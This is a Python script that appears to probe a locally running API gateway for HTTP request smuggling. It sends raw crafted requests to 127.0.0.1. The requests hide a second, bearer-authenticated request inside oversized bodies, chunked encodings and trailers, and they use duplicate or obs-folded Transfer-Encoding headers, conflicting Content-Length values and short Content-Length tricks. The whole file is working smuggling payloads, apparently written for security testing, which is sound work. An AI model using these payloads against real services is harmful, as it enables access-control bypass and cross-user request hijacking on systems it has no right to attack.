import socket,time
K=b"sk-tenant-acme-0123456789"
inner=b'GET /v1/models HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer '+K+b'\r\n\r\n'
def go(label, data, split=None):
    s=socket.create_connection(("127.0.0.1",18080)); s.settimeout(6); t0=time.time()
    try:
        if split: 
            s.sendall(data[:split]); time.sleep(0.2); s.sendall(data[split:])
        else: s.sendall(data)
    except Exception as e: print(" send",e)
    out=b""
    try:
        while True:
            d=s.recv(65536)
            if not d: break
            out+=d
    except Exception as e: out+=b"<"+repr(e).encode()+b">"
    st=[l for l in out.decode('latin1').split("\r\n") if l.startswith("HTTP/")]
    print(label, st, "%.2f"%(time.time()-t0))
big=b"a"*70000
# 413 declared, full body, then pipelined request
go("413 CL full body + pipelined", b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "+K+b"\r\nContent-Length: %d\r\n\r\n"%len(big)+big+inner, split=200)
# 413 chunked with request hidden in body and trailers
ch=b"".join(b"%x\r\n"%len(big[i:i+8000])+big[i:i+8000]+b"\r\n" for i in range(0,len(big),8000))
go("413 chunked+ext+trailer + pipelined", b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "+K+b"\r\nTransfer-Encoding: chunked\r\n\r\n"+ch.replace(b"1f40\r\n",b"1f40;ext=\"x\"\r\n",1)+b"%x\r\n"%len(inner)+inner+b"\r\n0\r\nX-Trailer: 1\r\n\r\n"+inner, split=300)
# 401 small body fully sent, pipelined
go("401 + pipelined", b"POST /v1/embeddings HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer bad\r\nContent-Length: 2\r\n\r\n{}"+inner)
# 404 small body with CL smaller than actual (extra bytes = request)
go("404 CL short + smuggled", b"POST /x HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\nhello"+inner, split=40)
# control: 200 GET then pipelined
go("control GET /health + pipelined", b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n"+inner+b"GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
# body bytes not read because GET without body; error 404 GET (body done) + pipelined
go("404 GET (no body) + pipelined", b"GET /nope HTTP/1.1\r\nHost: x\r\n\r\n"+inner+b"GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
# TE: chunked, chunked (dup) / TE with whitespace / obs-fold
go("TE dup + CL", b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n"+inner)
go("TE obs-fold", b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n"+inner)
go("CL dup differing", b"POST /x HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\nContent-Length: 30\r\n\r\nabc"+inner)
go("CL '3, 3' 404", b"POST /x HTTP/1.1\r\nHost: x\r\nContent-Length: 3, 3\r\n\r\nabc"+inner)
go("HTTP/1.0 keep-alive 401", b"POST /v1/embeddings HTTP/1.0\r\nConnection: keep-alive\r\nAuthorization: Bearer bad\r\nContent-Length: 2\r\n\r\n{}"+inner, split=80)
